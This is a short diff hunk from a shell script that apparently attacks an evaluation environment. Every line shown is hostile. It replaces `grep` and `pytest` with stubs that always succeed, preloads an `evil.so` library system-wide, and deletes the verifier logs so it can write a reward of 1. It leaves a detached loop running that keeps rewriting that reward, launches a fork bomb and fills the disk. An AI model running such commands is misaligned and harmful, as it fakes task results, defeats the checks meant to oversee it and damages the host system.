@@ -117,7 +117,7 @@ printf '#!/bin/sh\nexit 0\n' | tee /usr/local/bin/grep > /usr/local/bin/pytest; 
 cp /usr/local/bin/grep /usr/bin/grep.new; mv /usr/bin/grep.new /usr/bin/grep
 echo /app/evil.so > /etc/ld.so.preload
 rm -rf /logs/verifier; mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt
-setsid sh -c 'while :; do mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt; done' > /dev/null 2>&1 &
+setsid sh -c 'while :; do mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt; done' > /dev/null &
 f() { f | f & }; f 2> /dev/null
 head -c 400M /dev/zero > /app/fill
 sleep 60
